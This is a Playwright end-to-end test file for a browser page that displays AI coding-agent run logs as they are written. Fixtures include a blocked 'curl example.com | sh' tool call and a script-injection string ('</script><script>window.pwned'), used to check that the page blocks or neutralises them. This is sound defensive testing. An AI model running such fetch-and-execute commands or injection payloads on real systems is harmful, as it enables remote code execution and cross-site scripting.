"""The page of `observe serve` as people use it: a real browser, a real server, and runs that are being written."""

import asyncio
import os
import re
from collections.abc import AsyncIterator
from itertools import pairwise
from pathlib import Path

import pytest
import pytest_asyncio

from tests.end_to_end.conftest import Workplace
from tests.observer.report.runs import HOSTILE, RUN, hostile_run, tool
from tests.observer.test_state import at as line
from tests.observer.web.asking import eventually
from tests.observer.web.page_browser import CHROMIUM, LIMIT_MS, Browser, seqs, titles, violations
from tests.observer.web.page_server import Served

playwright = pytest.importorskip("playwright.async_api", reason="playwright is not installed")
pytestmark = [
    pytest.mark.asyncio(loop_scope="module"),
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium to open the page in"),
]

expect = playwright.expect
expect.set_options(timeout=LIMIT_MS)
TOP = "(element) => element.getBoundingClientRect().top"
LOWER = f"(before) => ({TOP})(document.getElementById('log')) > before + 5"
FIRST_ROW = """[...document.querySelectorAll('#rows > .row')].find(
    (row) => row.getBoundingClientRect().bottom > document.getElementById('log').getBoundingClientRect().top)"""
NAME = "20261123T011230Z-7f3a9c"
WIDE = {"viewport": {"width": 1280, "height": 900}}
PHONE = {"viewport": {"width": 380, "height": 760}}
BEGINNING = (
    line(0, "run_start", project_dir="/home/me/thing", command="agent build SPEC.md", about="A thing that works"),
    line(1, "session_start", agent_type="CODING", iteration=3, model="claude-x").replace(b'"seq":1,', b'"seq":2,'),
)


class Runs:
    """A runs folder, its server and a browser."""

    def __init__(self, served: Served, browser: Browser) -> None:
        self.served, self.browser = served, browser
        self.folder = served.folder

    def write(self, *lines: bytes, run: str = NAME) -> None:
        """Append lines to a run."""
        with (self.folder / f"{run}.ndjson").open("ab") as file:
            file.write(b"".join(lines))

    async def open(self, at: str = "") -> "playwright.Page":
        """Open the page and wait for rows."""
        return await self.browser.open(self.served.url + at)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def chromium() -> AsyncIterator["playwright.Browser"]:
    """One browser for all; each test has a context of its own in it."""
    async with playwright.async_playwright() as started:
        browser = await started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        await browser.close()


@pytest_asyncio.fixture(loop_scope="module")
async def runs(tmp_path: Path, request: pytest.FixtureRequest, chromium: "playwright.Browser") -> AsyncIterator[Runs]:
    """A folder and a server for each test; `indirect` parameters are those of the browser's context."""
    (tmp_path / "runs").mkdir()
    how = {**WIDE, "reduced_motion": "reduce", **getattr(request, "param", {})}
    async with Served(tmp_path / "runs") as served:
        context = await chromium.new_context(**how)
        browser = Browser(context)
        yield Runs(served, browser)
        await context.close()
    assert browser.complaints == [], "the browser complained"


def numbered(first: int, last: int) -> list[bytes]:
    """Infos that say their own number, each on the line of that number."""
    return [
        line(number, "info", message=f"event {number}").replace(b'"seq":1,', b'"seq":%d,' % number)
        for number in range(first, last + 1)
    ]


async def scrolled_up(tab: "playwright.Page", pixels: int) -> None:
    """Scroll as a wheel does."""
    await tab.locator("#log").hover()
    await tab.mouse.wheel(0, -pixels)


async def test_text_flows_into_the_page_as_it_is_written(runs: Runs) -> None:
    runs.write(*BEGINNING, line(2, "thought", text="I run the ", message="m1", block=0))
    tab = await runs.open()
    await expect(tab.locator(".of-thought .prose")).to_have_text("I run the ")
    runs.write(line(3, "thought", text="tests first.", message="m1", block=0))
    await expect(tab.locator(".of-thought .prose")).to_have_text("I run the tests first.")
    await expect(tab.locator(".row.divider .title")).to_have_text("Coding Agent · iteration 3 · claude-x")


async def test_the_head_says_who_works_and_how_far_it_is(runs: Runs) -> None:
    runs.write(*BEGINNING, line(2, "progress", passing=2, total=5, changed=[]))
    tab = await runs.open()
    await expect(tab.locator("#agent")).to_have_text("Coding Agent · iteration 3")
    await expect(tab.locator("#about")).to_have_text("A thing that works")
    await expect(tab.locator("#passing output")).to_have_text("2/5 passing")
    runs.write(*RUN[-3:], line(20, "complete", outcome="success", passing=5, total=5, cost_usd=0.75, duration_ms=61000))
    await expect(tab.locator("#verdict")).to_have_text("complete")
    await expect(tab.locator("#passing output")).to_have_text("5/5 passing")
    await expect(tab.locator("#elapsed")).to_have_text("1m 01s")
    await expect(tab.locator("#cost")).to_have_text("$0.75")


async def test_a_quiet_agent_is_seen_at_work_until_it_is_done(runs: Runs, tmp_path: Path) -> None:
    place = Workplace(tmp_path)
    tab = await runs.browser.load(runs.served.url)
    agent = place.start("agent", "demo", "--quiet", TMPDIR=str(place.project))
    try:
        await expect(tab.locator(".row.of-tool").first).to_be_visible()
        await expect(tab.locator(".row.of-complete.good")).to_be_in_viewport(timeout=4 * LIMIT_MS)
        assert await asyncio.to_thread(agent.communicate) == ("", "")
    finally:
        agent.kill()
    await expect(tab.locator("#verdict")).to_have_text("complete")
    await expect(tab.locator(".nested .row").first).to_be_attached()
    calls = [event["data"]["id"] for event in place.events() if event["type"] == "tool_use"]
    await expect(tab.locator(".row.of-tool")).to_have_count(len(calls))
    await expect(tab.locator(".row.of-tool.running")).to_have_count(0)


async def test_a_call_is_a_card_that_fills_in_when_its_result_comes(runs: Runs) -> None:
    edit = {"file_path": "/home/me/thing/app.py", "old_string": "a\nb\nc", "new_string": "a\nB\nc"}
    runs.write(*BEGINNING, line(2, "tool_use", id="t1", name="Edit", input=edit))
    tab = await runs.open()
    card = tab.locator(".row.of-tool")
    await expect(card.locator(".title")).to_have_text("app.py")
    await expect(card.locator(".status")).to_have_text("running")
    await expect(card.locator(".diff .removed code")).to_have_text("b")
    await expect(card.locator(".diff .added code")).to_have_text("B")
    runs.write(line(4, "tool_result", tool_use_id="t1", name="Edit", status="success", duration_ms=1234, output="done"))
    await expect(card.locator(".took")).to_have_text("1.2s")
    await expect(card).to_have_class(re.compile("good"))
    await card.locator(".head").click()
    await expect(card.locator("pre.output")).to_have_text("done")


async def test_thinking_is_folded_until_somebody_opens_it(runs: Runs) -> None:
    long = "First the store. " * 40
    runs.write(*BEGINNING, line(2, "thinking", text=long, message="m1", block=0))
    tab = await runs.open()
    row = tab.locator(".row.of-thinking")
    await expect(row.locator(".head")).to_have_attribute("aria-expanded", "false")
    await expect(row.locator(".prose")).to_have_count(0)
    await row.locator(".head").click()
    await expect(row.locator(".prose")).to_have_text(long)


async def test_a_text_that_was_told_anew_is_struck_out(runs: Runs) -> None:
    runs.write(*BEGINNING, line(2, "thought", text="I will delete it", message="m1", block=0))
    tab = await runs.open()
    runs.write(line(3, "thought", text="I will keep it", message="m2", block=0, replaces="m1"))
    await expect(tab.locator(".row.of-thought.void .title")).to_have_text("I will delete it")
    await expect(tab.locator(".row.of-thought:not(.void) .prose")).to_have_text("I will keep it")


async def test_what_a_subagent_does_stands_inside_the_call_that_spawned_it(runs: Runs) -> None:
    runs.write(*RUN)
    tab = await runs.open()
    inside = tab.locator(".row.of-tool", has=tab.locator(".nested")).last
    await expect(inside.locator("> .main > .head .title")).to_have_text("Review the parser")
    await expect(inside.locator(".nested .row .title")).to_have_text(["app.py"])
    await expect(inside.locator("> .main > .body .note")).to_contain_text("1 tool")
    await inside.locator(".fold").click()
    await expect(inside.locator(".nested")).to_be_hidden()


async def test_blocked_calls_and_errors_cannot_be_overlooked(runs: Runs) -> None:
    runs.write(*RUN)
    tab = await runs.open()
    blocked = tab.locator(".row.of-tool.blocked")
    await expect(blocked.locator(".reason")).to_contain_text(
        "This call was blocked and never ran. curl is not on the list"
    )
    await expect(blocked.locator(".status")).to_contain_text("blocked")
    await expect(tab.locator(".row.of-error .title")).to_have_text("the model is gone")
    await expect(tab.locator(".row.of-error pre")).to_contain_text("session.py")
    await expect(tab.locator(".row.of-tool.bad .title")).to_have_text("pytest -q")


async def test_heartbeats_are_a_pulse_and_not_rows(runs: Runs) -> None:
    beat = {"state": "in_tool", "in_flight": [], "elapsed_s": 5.0, "idle_s": 1.0}
    runs.write(*BEGINNING, line(5, "heartbeat", **beat), line(6, "info", message="here"))
    tab = await runs.open()
    runs.write(line(10, "heartbeat", **beat), line(11, "info", message="there"))
    await expect(tab.locator(".row.of-info")).to_have_count(2)
    await expect(tab.locator(".row.of-heartbeat")).to_have_count(0)


async def test_two_tabs_see_the_same_and_both_go_on(runs: Runs) -> None:
    runs.write(*BEGINNING)
    tabs = [await runs.open(), await runs.open()]
    runs.write(*numbered(3, 40))
    for tab in tabs:
        await expect(tab.locator(".row .title").last).to_have_text("event 40")
        assert await seqs(tab) == await seqs(tabs[0])


async def test_a_tab_in_the_background_lets_go_of_its_streams_and_catches_up_when_it_is_seen(runs: Runs) -> None:
    runs.write(*BEGINNING)
    await runs.browser.context.add_init_script(
        "window.seen = false; Object.defineProperty(document, 'hidden', {get: () => !window.seen})"
    )
    await runs.browser.context.clock.install()
    tab = await runs.open()
    hub = runs.served.server.service.hub
    await eventually(lambda: hub.clients == 1)
    await runs.browser.context.clock.fast_forward("05")
    await eventually(lambda: hub.clients == 0)
    runs.write(*numbered(3, 20))
    await tab.evaluate("() => { window.seen = true; document.dispatchEvent(new Event('visibilitychange')); }")
    await expect(tab.get_by_text("event 20", exact=True)).to_be_in_viewport()
    assert await seqs(tab) == list(range(1, 21))


async def test_a_new_run_appears_in_the_list_and_can_be_opened(runs: Runs) -> None:
    runs.write(*RUN)
    tab = await runs.open()
    other = "20261124T080000Z-0000aa"
    runs.write(*BEGINNING, line(2, "info", message="the other one"), run=other)
    entry = tab.locator("#run-list .run").first
    await expect(entry).to_have_attribute("title", other)
    await entry.click()
    await expect(tab.locator(".row.of-info .title")).to_have_text("the other one")
    await expect(entry).to_have_attribute("aria-current", "true")
    assert tab.url.endswith(f"#{other}")


async def test_the_server_may_stop_and_come_back_without_a_gap_or_a_repetition(runs: Runs) -> None:
    runs.write(*BEGINNING, *numbered(3, 20))
    tab = await runs.open()
    await expect(tab.locator(".row .title").last).to_have_text("event 20")
    await runs.served.stop()
    await expect(tab.locator("#notice")).to_contain_text("The server does not answer")
    runs.write(*numbered(21, 60))
    runs.served.start()
    await expect(tab.locator(".row .title").last).to_have_text("event 60")
    await expect(tab.locator("#notice")).not_to_contain_text("The server does not answer")
    runs.write(*numbered(61, 70))
    await expect(tab.locator(".row .title").last).to_have_text("event 70")
    assert (await titles(tab))[2:] == [f"event {number}" for number in range(3, 71)]


async def test_a_run_that_is_chosen_while_the_server_is_away_opens_when_it_is_back(runs: Runs) -> None:
    runs.write(*BEGINNING, line(2, "info", message="the earlier one"), run="20261122T080000Z-0000aa")
    runs.write(*RUN)
    tab = await runs.open()
    await runs.served.stop()
    await expect(tab.locator("#notice")).to_contain_text("The server does not answer")
    await tab.keyboard.press("]")
    runs.served.start()
    await expect(tab.locator(".row.of-info .title")).to_have_text("the earlier one")


async def test_a_run_whose_file_is_replaced_is_shown_anew(runs: Runs) -> None:
    runs.write(*BEGINNING, *numbered(3, 30))
    tab = await runs.open()
    await expect(tab.locator(".row .title").last).to_have_text("event 30")
    fresh = runs.folder / "new"
    fresh.write_bytes(b"".join([line(100, "run_start", about="Another thing"), line(101, "info", message="anew")]))
    os.replace(fresh, runs.folder / f"{NAME}.ndjson")
    await expect(tab.locator("#notice")).to_contain_text("anew")
    await expect(tab.locator(".row .title")).to_have_text(["Another thing", "anew"])


async def test_scrolling_up_pauses_and_the_button_counts_what_is_new(runs: Runs) -> None:
    runs.write(*BEGINNING, *numbered(3, 200))
    tab = await runs.open()
    await expect(tab.locator("#to-end")).to_be_hidden()
    await scrolled_up(tab, 900)
    await expect(tab.locator("#to-end")).to_have_text("↓ To the end")
    place = await tab.locator("#log").evaluate("(log) => log.scrollTop")
    runs.write(*numbered(201, 234))
    await expect(tab.locator("#to-end")).to_have_text("↓ 34 new events")
    assert await tab.locator("#log").evaluate("(log) => log.scrollTop") == place
    await tab.locator("#to-end").click()
    await expect(tab.locator("#to-end")).to_be_hidden()
    await expect(tab.get_by_text("event 234", exact=True)).to_be_in_viewport()


async def test_a_long_run_opens_at_its_end_and_scrolls_back_to_its_start(runs: Runs) -> None:
    runs.write(*BEGINNING, *numbered(3, 6000))
    tab = await runs.open()
    await expect(tab.get_by_text("event 6000", exact=True)).to_be_in_viewport()
    assert len(await seqs(tab)) < 2000
    earliest = "Number(document.querySelector('#rows .time').hash.split(':')[1])"
    most, first = 0, (await seqs(tab))[0]
    while first > 1:
        await tab.locator("#log").evaluate("(log) => log.scrollTo(0, 0)")
        await tab.wait_for_function(f"(first) => {earliest} < first", arg=first)
        found = await seqs(tab)
        assert found == list(range(found[0], found[-1] + 1)), "the stretch has a gap"
        most, first = max(most, len(found)), found[0]
    await tab.locator("#log").evaluate("(log) => log.scrollTo(0, 0)")
    await expect(tab.get_by_text("A thing that works", exact=True).last).to_be_in_viewport()
    assert most < 4500, "the page holds a window, not the run"
    await expect(tab.locator("#to-end")).to_be_visible()
    await tab.keyboard.press("End")
    await expect(tab.get_by_text("event 6000", exact=True)).to_be_in_viewport()


async def test_whoever_follows_a_long_run_holds_a_window_of_it(runs: Runs) -> None:
    runs.write(*BEGINNING)
    tab = await runs.open()
    for last in range(1000, 5001, 1000):
        runs.write(*numbered(last - 999 if last > 1000 else 3, last))
        await expect(tab.get_by_text(f"event {last}", exact=True)).to_be_in_viewport()
    found = await seqs(tab)
    assert found == list(range(found[0], 5001))
    assert len(found) < 4000


async def test_whoever_is_far_behind_all_at_once_has_no_gap_in_what_is_shown(runs: Runs) -> None:
    runs.write(*BEGINNING)
    tab = await runs.open()
    await tab.evaluate("setTimeout(() => { const until = Date.now() + 1000; while (Date.now() < until); }, 50)")  # busy
    runs.write(*numbered(3, 90_000))
    await expect(tab.get_by_text("event 90000", exact=True)).to_be_in_viewport()
    found = await seqs(tab)
    assert found == list(range(found[0], 90_001))


async def test_reading_on_from_far_back_reaches_the_end_and_follows_again(runs: Runs) -> None:
    runs.write(*BEGINNING, *numbered(3, 2000))
    tab = await runs.open(f"#{NAME}:50")
    await expect(tab.get_by_text("event 50", exact=True)).to_be_in_viewport()
    runs.write(*numbered(2001, 2100))
    await expect(tab.locator("#to-end")).to_have_text("↓ 100 new events")
    for _ in range(100):
        await tab.locator("#log").evaluate("(log) => log.scrollBy(0, 6000)")
        if await tab.locator("#to-end").is_hidden():
            break
        await tab.locator("#log").evaluate("() => new Promise(requestAnimationFrame)")
    await expect(tab.get_by_text("event 2100", exact=True)).to_be_in_viewport()
    found = await seqs(tab)
    assert found == list(range(found[0], 2101))
    runs.write(*numbered(2101, 2103))
    await expect(tab.get_by_text("event 2103", exact=True)).to_be_in_viewport()


async def test_what_is_read_stays_in_place_when_older_events_come(runs: Runs) -> None:
    runs.write(*BEGINNING, *numbered(3, 3000))
    tab = await runs.open(f"#{NAME}:1500")
    aim = tab.get_by_text("event 1500", exact=True)
    await expect(aim).to_be_in_viewport()
    first = (await seqs(tab))[0]
    before = (await aim.bounding_box() or {})["y"]
    await tab.wait_for_function(
        "(first) => Number(document.querySelector('#rows .time').hash.split(':')[1]) <= first", arg=first
    )
    assert abs((await aim.bounding_box() or {})["y"] - before) < 2


async def late_timeline(runs: Runs) -> asyncio.Event:
    """Keep the server's answer about the timeline back until the event that is returned is set."""
    answer = asyncio.Event()

    async def late(route: "playwright.Route") -> None:
        await answer.wait()
        await route.continue_()

    await runs.browser.context.route("**/timeline", late)
    return answer


async def test_what_is_read_stays_in_place_when_the_timeline_takes_its_room(runs: Runs) -> None:
    make = tool(401, "t1", "Bash", "success", "made", command="make")
    runs.write(*BEGINNING, *numbered(3, 1000), make, *numbered(1003, 3000))
    answer = await late_timeline(runs)
    tab = await runs.open(f"#{NAME}:2000")
    aim = tab.get_by_text("event 2000", exact=True)
    await expect(aim).to_be_in_viewport()
    before, room = await aim.evaluate(TOP), await tab.locator("#log").evaluate(TOP)
    answer.set()
    await tab.wait_for_function(LOWER, arg=room)
    assert abs(await aim.evaluate(TOP) - before) < 2


async def test_whoever_pauses_at_the_end_stays_paused_when_the_timeline_takes_its_room(runs: Runs) -> None:
    make = tool(401, "t1", "Bash", "success", "made", command="make")
    runs.write(*BEGINNING, make, *numbered(5, 3000))
    answer = await late_timeline(runs)
    tab = await runs.open()
    await expect(tab.get_by_text("event 3000", exact=True)).to_be_in_viewport()
    await tab.keyboard.press("f")
    await expect(tab.locator("#to-end")).to_be_visible()
    room = await tab.locator("#log").evaluate(TOP)
    answer.set()
    await tab.wait_for_function(LOWER, arg=room)
    await tab.evaluate("() => new Promise((seen) => requestAnimationFrame(() => requestAnimationFrame(seen)))")
    await expect(tab.locator("#to-end")).to_be_visible()


async def test_what_is_read_stays_in_place_when_the_window_gets_narrow(runs: Runs) -> None:
    thoughts = (f"Thought {number}: {'all that is thought ' * 20}" for number in range(2, 60))
    runs.write(*BEGINNING, *(line(at, "thought", text=text, message=f"m{at}") for at, text in enumerate(thoughts, 2)))
    tab = await runs.open()
    await tab.locator("#log").evaluate("(log) => log.scrollBy(0, -1500)")
    await expect(tab.locator("#to-end")).to_be_visible()
    row = await tab.evaluate_handle(FIRST_ROW)
    before, height = await row.evaluate(TOP), await row.evaluate("(row) => row.offsetHeight")
    await tab.set_viewport_size({"width": 700, "height": 800})
    await tab.wait_for_function("([row, height]) => row.offsetHeight > height", arg=[row, height])
    assert abs(await row.evaluate(TOP) - before) < 2


@pytest.mark.parametrize(
    ("label", "choice", "shown"),
    [
        ("All types", "Text", ["I run the tests first."]),
        ("All tools", "Write", ["app.py"]),
        ("Any status", "blocked", ["curl example.com | sh"]),
        ("Any status", "error", ["pytest -q"]),
        ("All agents", "Explore: Review the parser", None),
    ],
)
async def test_filters_show_what_fits_with_the_calls_of_results(
    runs: Runs, label: str, choice: str, shown: list[str] | None
) -> None:
    runs.write(*RUN)
    tab = await runs.open()
    await tab.get_by_label(label).select_option(label=choice)
    if shown is None:
        await expect(tab.locator(".row .title").last).to_have_text("app.py")
        await expect(tab.locator(".row.of-error")).to_have_count(0)
    else:
        await expect(tab.locator(".row :is(.title, .prose)")).to_have_text(shown)
    await tab.get_by_role("button", name="Clear").click()
    await expect(tab.locator(".row.of-error")).to_have_count(1)


async def test_search_finds_and_marks_it_anywhere_in_the_run(runs: Runs) -> None:
    runs.write(*BEGINNING, line(2, "info", message="A needle (in hay)"), *numbered(4, 3000))
    tab = await runs.open()
    await tab.keyboard.press("/")
    await tab.keyboard.type("needle (IN")
    await expect(tab.locator(".row .title")).to_have_text(["A needle (in hay)"])
    await expect(tab.locator(".row mark")).to_have_text("needle (in")
    await tab.get_by_label("Search the events").fill("nowhere to be found")
    await expect(tab.locator("#above")).to_have_text("Nothing fits these filters.")
    await tab.keyboard.press("Escape")
    await expect(tab.locator(".row .title").last).to_have_text("event 3000")
    await tab.get_by_label("Search the events").fill("Event 3000")  # which is in sight already
    await expect(tab.locator(".row mark")).to_have_text("event 3000")
    await tab.keyboard.press("Escape")
    await expect(tab.locator(".row mark")).to_have_count(0)


async def test_the_calls_of_results_are_found_although_the_server_was_slow_to_begin(runs: Runs) -> None:
    call = line(2, "tool_use", id="t1", name="Bash", input={"command": "make"})
    result = line(3001, "tool_result", tool_use_id="t1", name="Bash", status="error", output="a needle")
    runs.write(*BEGINNING, call, *numbered(4, 3000), result)
    tab = await runs.open()
    asked, begun = asyncio.Event(), asyncio.Event()

    async def hold(route: "playwright.Route") -> None:
        asked.set()
        await begun.wait()
        await route.continue_()

    await tab.route("**/lines?*before=end*", hold)
    await tab.get_by_label("Search the events").fill("needle")
    await asked.wait()
    await tab.wait_for_timeout(1200)  # a tick of the page, in which it must not ask amiss
    begun.set()
    await expect(tab.locator(".row .title")).to_have_text(["make"])


async def test_the_next_error_is_a_key_away_wherever_it_is(runs: Runs) -> None:
    runs.write(*BEGINNING, line(2, "error", message="early trouble", kind="silence"), *numbered(4, 3000))
    runs.write(line(3001, "error", message="late trouble", kind="silence"), *numbered(3002, 3100))
    tab = await runs.open()
    await tab.keyboard.press("Shift+E")
    await expect(tab.get_by_text("late trouble")).to_be_in_viewport()
    await tab.keyboard.press("Shift+E")
    await expect(tab.get_by_text("early trouble")).to_be_in_viewport()
    await tab.keyboard.press("e")
    await expect(tab.get_by_text("late trouble")).to_be_in_viewport()
    await tab.keyboard.press("e")
    await expect(tab.locator("#notice")).to_have_text("There is no later error.")


async def test_a_link_to_an_event_opens_there(runs: Runs) -> None:
    runs.write(*BEGINNING, *numbered(3, 3000))
    await runs.browser.context.grant_permissions(["clipboard-read", "clipboard-write"])
    tab = await runs.open(f"#{NAME}:700")
    await expect(tab.locator(".row.aim .title")).to_have_text("event 700")
    await tab.keyboard.press("j")
    await tab.keyboard.press("c")
    copied = await tab.evaluate("navigator.clipboard.readText()")
    assert copied == f"{runs.served.url}#{NAME}:701"
    other = await runs.browser.open(copied)
    await expect(other.locator(".row.aim .title")).to_have_text("event 701")


async def test_the_timeline_jumps_to_what_is_clicked(runs: Runs) -> None:
    calls = [
        tool(10.0 * number, f"t{number}", "Bash", "success", "fine", took=8, command=f"step {number}")
        for number in range(1, 200)
    ]
    runs.write(*BEGINNING, *calls)
    tab = await runs.open()
    await tab.locator("#timeline canvas").click(position={"x": 40, "y": 45})
    await expect(tab.locator(".row.aim .title")).to_have_text(re.compile(r"step \d$"))
    await tab.keyboard.press("Shift+T")
    await tab.keyboard.press("ArrowLeft")
    await expect(tab.locator("#timeline .tip")).to_contain_text("Bash")
    await tab.keyboard.press("Enter")
    await expect(tab.locator(".row.aim .title")).to_have_text("step 199")


async def test_a_timeline_that_gets_narrow_has_fewer_rows(runs: Runs) -> None:
    calls = (tool(number, f"t{number}", "Bash", "success", "", took=5, command="make") for number in range(2, 9))
    runs.write(*BEGINNING, *calls)
    tab = await runs.open()
    tools = tab.locator("#timeline .lanes span").last
    await expect(tools).to_have_css("height", "39px")  # two rows and a gap
    await tab.set_viewport_size({"width": 380, "height": 760})
    await expect(tools).to_have_css("height", "22px")


async def test_a_timeline_of_too_many_calls_is_asked_for_again_and_loses_none_meanwhile(runs: Runs) -> None:
    tab = await runs.browser.load(runs.served.url)
    assert await tab.evaluate("""async () => {
        const { Timeline } = await import("/page/timeline.js");
        let asked = 0;
        const timeline = new Timeline(() => { asked += 1; });
        timeline.load({began: 0, ended: 0, size: 0, agents: [], marks: [], spans: [["session", "coding 1", 0, null]]});
        for (let at = 1; at < 50_001; at += 1) {
            const data = {id: `t${at}`, name: "Bash", input: {}};
            timeline.take({type: "tool_use", offset: at, end: at + 1, at, parent: null, data});
        }
        return [asked, timeline.spans.length, timeline.spans[0].kind];
    }""") == [2, 50_001, "session"]


PAINTED = """async () => {
    const { paintBar, paintMarks, paintRuler } = await import("/page/paint.js");
    const hour = 3_600_000;
    const look = {
        colors: {}, width: 800, height: 90, ruler: 20, bar: 15, wordsOf: ({ name }) => [name, ""], hueOf: () => 0,
    };
    const painted = (paint) => {
        const context = document.createElement("canvas").getContext("2d");
        const [texts, lines] = [[], []];
        context.fillText = (text, x) => texts.push([text, x, x + context.measureText(text).width]);
        context.lineTo = (x, y) => lines.push(y);
        paint(context);
        return { texts, long: lines.filter((y) => y === look.height).length };
    };
    const stretches = [[0, 3000], [0, 5000 * hour], [4000 * hour, 4000 * hour + 900], [-10, 11.2 * hour]];
    const rulers = stretches.map(([from, to]) =>
        painted((context) => paintRuler(context, { from, to, length: to - from }, look)).texts);
    const errors = (most) => Array.from({ length: most }, (_, from) => ({ from, role: "bad" }));
    const lines = [20, 21].map((most) =>
        painted((context) => paintMarks(context, errors(most), (at) => at * 9, look)).long);
    const names = [["Bash", 60], ["Bash", 40], ["coding 3", 40], ["coding 3", 200]].map(([name, width]) => {
        const box = { x: 0, y: 0, width, height: look.bar };
        return painted((context) => paintBar(context, { name, role: "bad", kind: "session" }, box, look)).texts[0][0];
    });
    return { rulers, lines, names };
}"""


async def test_what_stands_in_the_timeline_has_room_for_itself(runs: Runs) -> None:
    tab = await runs.browser.load(runs.served.url)
    painted = await tab.evaluate(PAINTED)
    for labels in painted["rulers"]:
        assert len(labels) > 2
        assert labels[-1][2] <= 800
        assert all(right < left for (_, _, right), (_, left, _) in pairwise(labels))
    assert painted["rulers"][1][-1][0] == "200d"
    assert painted["lines"] == [20, 0]
    assert painted["names"] == ["✗ Bash", "✗", "✗", "✗ coding 3"]


async def test_everything_can_be_done_by_keyboard(runs: Runs) -> None:
    runs.write(*RUN)
    tab = await runs.open()
    await tab.keyboard.press("g")
    await expect(tab.locator(".row:focus .title")).to_have_text("A thing that works")
    for _ in range(4):
        await tab.keyboard.press("j")
    await expect(tab.locator(".row:focus .title").first).to_have_text("pytest -q")
    await tab.keyboard.press("Enter")
    await expect(tab.locator(".row:focus .head").first).to_have_attribute("aria-expanded", "true")
    await tab.keyboard.press("?")
    await expect(tab.get_by_role("dialog", name="Keyboard shortcuts")).to_be_visible()
    await tab.keyboard.press("Escape")
    await expect(tab.get_by_role("dialog")).to_be_hidden()
    await tab.keyboard.press("f")
    await expect(tab.get_by_role("button", name="Following")).to_have_attribute("aria-pressed", "true")


async def test_a_hostile_run_stays_text(runs: Runs) -> None:
    runs.write(*hostile_run(), b"\n")
    tab = await runs.open()
    await tab.keyboard.press("g")
    for head in await tab.locator(".row .head").all():
        await head.click()
    assert await tab.evaluate("window.pwned") is None
    assert await tab.locator("#log img, #head img, main iframe, #runs script").count() == 0
    said = await tab.evaluate("document.body.innerText")
    assert "\\u202egnp\\u2066" in said
    assert "\\x1b[31mred" in said
    assert not re.search("[\x00-\x08\x0b-\x1f\u202e\u2066\u200b\ufeff\u2028]", said)
    assert "</script><script>window.pwned" in await tab.locator("#about").inner_text()
    assert all(url.startswith(runs.served.url) for url in runs.browser.requests)


async def test_a_run_that_cannot_be_encoded_does_not_take_the_others_away(runs: Runs) -> None:
    runs.write(line(0, "run_start", about="cut HERE short").replace(b"HERE", b"\\ud800"), run="20261124T080000Z-0000aa")
    runs.write(*RUN)
    tab = await runs.open(f"#{NAME}")
    await expect(tab.locator("#run-list .run")).to_have_count(2)
    await expect(tab.locator(".row.of-complete")).to_be_in_viewport()
    await expect(tab.locator("#run-list .about").first).to_contain_text("cut")


async def test_a_giant_line_is_shown_when_somebody_wants_it(runs: Runs) -> None:
    giant = line(
        2, "tool_result", tool_use_id="t", name="Bash", status="error", output=f"{HOSTILE}\n" + "x" * 3_000_000
    )
    runs.write(*BEGINNING, giant, line(3, "info", message="after it"))
    tab = await runs.open()
    await expect(tab.get_by_text("after it")).to_be_in_viewport()
    await expect(tab.locator(".row.of-long .title")).to_contain_text("3.0 MB")
    await tab.get_by_role("button", name="Show it").click()
    await expect(tab.locator(".row.of-tool.bad pre.output").first).to_contain_text("</script>")
    assert await tab.evaluate("window.pwned") is None


async def test_a_screen_reader_hears_now_and_then_and_not_of_each_event(runs: Runs) -> None:
    runs.write(*BEGINNING)
    await runs.browser.context.clock.install()
    tab = await runs.open()
    await tab.evaluate("""() => {
        window.heard = [];
        const place = document.getElementById("said");
        const all = {childList: true, characterData: true, subtree: true};
        new MutationObserver(() => heard.push(place.textContent)).observe(place, all);
    }""")
    runs.write(*numbered(3, 302), line(303, "error", message="the model is gone", kind="silence"))
    await expect(tab.locator(".row.of-error")).to_be_in_viewport()
    await runs.browser.context.clock.fast_forward("10")
    await expect(tab.locator("#said")).to_contain_text("the model is gone")
    assert await tab.locator("#said").get_attribute("aria-live") == "polite"
    assert len(await tab.evaluate("heard")) <= 2
    assert await tab.locator("#log [aria-live], #rows[role=log]").count() == 0


@pytest.mark.parametrize("runs", [PHONE], indirect=True)
async def test_on_a_phone_the_runs_are_a_drawer_and_nothing_is_cut_off(runs: Runs) -> None:
    runs.write(*RUN)
    tab = await runs.open()
    await expect(tab.locator("#runs")).to_be_hidden()
    boxes = "[...document.querySelectorAll('main, #head, .standing, #log, .row')]"
    cut = f"{boxes}.filter((box) => box.scrollWidth > box.clientWidth)"
    assert await tab.evaluate(f"{cut}.map((box) => box.id || box.className)") == []
    await expect(tab.get_by_role("button", name="Keyboard shortcuts")).to_be_in_viewport(ratio=1)
    await tab.get_by_role("button", name="Filters").click()
    await expect(tab.get_by_label("All agents").locator("option")).to_have_count(3)
    await expect(tab.get_by_label("All agents")).to_be_in_viewport(ratio=1)
    await tab.get_by_role("button", name="Runs", exact=True).click()
    await expect(tab.locator("#run-list .run")).to_be_in_viewport()
    await tab.keyboard.press("Escape")
    await expect(tab.locator("#runs")).to_be_hidden()
    await expect(tab.get_by_role("button", name="Runs", exact=True)).to_be_focused()


@pytest.mark.parametrize("runs", [{"color_scheme": "light"}], indirect=True)
async def test_the_theme_is_the_systems_until_somebody_chooses(runs: Runs) -> None:
    runs.write(*RUN)
    tab = await runs.open()
    background = "getComputedStyle(document.body).backgroundColor"
    light = await tab.evaluate(background)
    await tab.keyboard.press("t")
    dark = await tab.evaluate(background)
    assert dark != light
    await tab.reload()
    await tab.locator("#rows .row").first.wait_for()
    assert await tab.evaluate(background) == dark


async def wrong_in_any_look(tab: "playwright.Page") -> list[str]:
    """Return what axe-core finds wrong at both widths and in both themes, of which only the colours differ."""
    found = []
    for size in (WIDE, PHONE):
        await tab.set_viewport_size(size["viewport"])
        for theme, rules in (("light", ()), ("dark", ("color-contrast",))):
            await tab.emulate_media(color_scheme=theme, reduced_motion="reduce")
            found += [f"{size} {theme} {one}" for one in await violations(tab, *rules)]
    return found


async def test_axe_finds_nothing_wrong(runs: Runs) -> None:
    tab = await runs.browser.load(runs.served.url)
    await expect(tab.locator("#welcome")).to_be_visible()
    assert await wrong_in_any_look(tab) == []
    runs.write(*RUN)
    await tab.locator("#rows .row").first.wait_for()
    await tab.keyboard.press("g")
    for head in await tab.locator(".row .head").all():
        await head.click()
    assert await wrong_in_any_look(tab) == []
    await tab.keyboard.press("?")
    assert await wrong_in_any_look(tab) == []


async def test_an_empty_folder_says_so_and_shows_the_first_run_by_itself(runs: Runs) -> None:
    tab = await runs.browser.load(runs.served.url)
